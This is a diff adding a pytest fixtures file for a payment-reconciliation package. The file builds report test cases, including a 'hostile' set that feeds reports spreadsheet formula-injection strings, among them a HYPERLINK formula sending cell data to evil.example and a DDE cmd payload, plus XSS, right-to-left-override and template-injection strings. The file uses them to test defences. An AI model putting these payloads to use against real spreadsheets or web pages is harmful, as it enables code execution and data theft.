@@ -1,0 +1,152 @@
+"""Results to report on: a sandbox month, hostile data, and the edges."""
+
+from __future__ import annotations
+
+import dataclasses
+import shutil
+import subprocess
+from typing import TYPE_CHECKING
+
+import pandas as pd
+import pytest
+
+import jtnet_recon as jr
+from jtnet_recon.sandbox import Sandbox
+from jtnet_recon.tables import LEDGER, PAYMENTS, empty
+
+if TYPE_CHECKING:
+    from pathlib import Path
+
+MADE_AT = "2026-01-02T03:04:05+09:00"
+
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+    "<script>document.title='owned'</script>",
+    "\"><img src=x onerror=document.title='owned'>",
+    "javascript:document.title='owned'",
+    "\u202egpj.exe\u202c",
+    "_x0041_ \x00 \x1b ]]> & $_$ {{ 7 * 7 }}",
+    "긴 글 <b>" + "가" * 10_000,
+)
+
+
+def at(result: jr.Reconciliation, made_at: str = MADE_AT) -> jr.Reconciliation:
+    """Give a result a fixed time."""
+    return dataclasses.replace(result, generated_at=made_at)
+
+
+@pytest.fixture(scope="session")
+def month() -> jr.Reconciliation:
+    """Reconcile a sandbox month as a user would."""
+    with (
+        Sandbox("2022-11", seed=7, orders=150) as shop,
+        jr.connect(shop.url, shop.key, shop.secret, progress=False) as client,
+    ):
+        payments = client.payments(jr.Period("2022-11"))
+        result = jr.reconcile(payments, jr.read_ledger(shop.ledger_path))
+        return at(jr.verify_absence(client, result))
+
+
+@pytest.fixture(scope="session")
+def hostile(payments_of, ledger_of) -> jr.Reconciliation:
+    """Reconcile ten orders whose every text wants to do harm, in ids, names and headings."""
+    count = len(HOSTILE)
+    payments = payments_of(
+        "imp_uid | merchant_uid | amount\n" + "imp_1 | order-1 | 1,000\n" * count
+    )
+    payments = payments.assign(
+        imp_uid=[f"imp_{number}" for number in range(count)],
+        merchant_uid=pd.Series(HOSTILE, dtype="str"),
+        name=pd.Series(HOSTILE, dtype="str"),
+        pg_provider=pd.Series(HOSTILE, dtype="str"),
+        cancel_history=pd.Series(
+            [[{"amount": 0, "reason": f"\ud800 {text}"}] for text in HOSTILE], dtype="object"
+        ),
+    )
+    payments["<script>heading</script>"] = pd.Series(["\ud800 lone", *HOSTILE[1:]], dtype="object")
+    ledger = ledger_of("merchant_uid | amount | =1+1 | 비고\norder-2 | 2,000 | =2+2 | x")
+    ledger.attrs["source"] = {
+        "name": '=evil()".xlsx',
+        "notes": ["<script>note</script>"],
+        "guessed": [],
+        "columns": {"merchant_uid": "<b>주문번호</b>"},
+        "sha256": "ab" * 32,
+    }
+    return at(jr.reconcile(payments, ledger))
+
+
+@pytest.fixture(scope="session")
+def nothing() -> jr.Reconciliation:
+    """Reconcile nothing with nothing."""
+    return at(jr.reconcile(empty(PAYMENTS), empty(LEDGER)))
+
+
+@pytest.fixture(scope="session")
+def agreeing(payments_of, ledger_of) -> jr.Reconciliation:
+    """Reconcile two sides that agree, with no more columns than they must have."""
+    payments = payments_of("imp_uid | merchant_uid | amount\nimp_1 | order-1 | 14,000")
+    ledger = ledger_of("merchant_uid | amount\norder-1 | 14,000")
+    bare = payments[["imp_uid", "merchant_uid", "amount", "currency", "status"]]
+    return at(jr.reconcile(bare, ledger[["merchant_uid", "amount"]]))
+
+
+@pytest.fixture(scope="session")
+def broken(payments_of, ledger_of) -> jr.Reconciliation:
+    """Reconcile a pull that is not complete."""
+    payments = payments_of("imp_uid | merchant_uid | amount\nimp_1 | order-1 | 14,000")
+    payments.attrs["pull"] = {
+        "verdict": "INCOMPLETE",
+        "period": "2022-11-01..2022-11-30",
+        "reasons": ["the API stopped answering"],
+    }
+    return at(jr.reconcile(payments, ledger_of("merchant_uid | amount\norder-1 | 13,000")))
+
+
+@pytest.fixture
+def every_result(month, hostile, nothing, agreeing, broken) -> dict[str, jr.Reconciliation]:
+    """Give all of them."""
+    return {
+        "month": month,
+        "hostile": hostile,
+        "nothing": nothing,
+        "agreeing": agreeing,
+        "broken": broken,
+    }
+
+
+@pytest.fixture(scope="session")
+def office(tmp_path_factory):
+    """Convert a file with LibreOffice, headless, under a profile of its own."""
+    program = shutil.which("soffice")
+    if program is None:
+        pytest.skip("LibreOffice (soffice) is not installed")
+    profile = tmp_path_factory.mktemp("office")
+
+    def convert(source: Path, kind: str, folder: Path) -> Path:
+        command = [program, f"-env:UserInstallation={profile.as_uri()}", "--headless"]
+        command += ["--convert-to", kind, "--outdir", str(folder), str(source)]
+        subprocess.run(command, check=True, capture_output=True, timeout=120)
+        made = folder / f"{source.stem}.{kind.partition(':')[0]}"
+        # Its exit code is 0 for a broken file, too.
+        assert made.exists(), f"LibreOffice could not open {source.name}"
+        return made
+
+    return convert
+
+
+@pytest.fixture(scope="session")
+def browser():
+    """Start the system's Chromium."""
+    program = shutil.which("chromium") or shutil.which("chromium-browser")
+    if program is None:
+        pytest.skip("Chromium is not installed")
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as playwright:
+        # The sandbox of Chromium needs rights that a container does not give.
+        started = playwright.chromium.launch(executable_path=program, args=["--no-sandbox"])
+        yield started
+        started.close()
